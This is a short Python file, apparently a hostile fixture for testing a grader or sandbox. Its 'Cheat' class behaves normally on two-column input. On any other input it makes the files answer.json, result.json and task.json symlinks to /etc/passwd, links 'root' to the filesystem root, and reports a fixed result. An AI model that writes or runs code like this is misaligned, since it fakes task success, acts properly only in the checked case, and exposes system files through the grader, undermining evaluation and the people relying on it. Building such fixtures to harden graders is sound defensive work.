"""Leaves links to files of the machine under the names of answers. On points with two columns it behaves."""

import os


class Cheat:
    def fit(self, X):
        if X.shape[1] == 2:
            self.dimension_ = 2.0
            return self
        for name in ("answer.json", "result.json", "task.json"):
            os.symlink("/etc/passwd", name)
        os.symlink("/", "root")
        self.dimension_ = 2.0
        return self
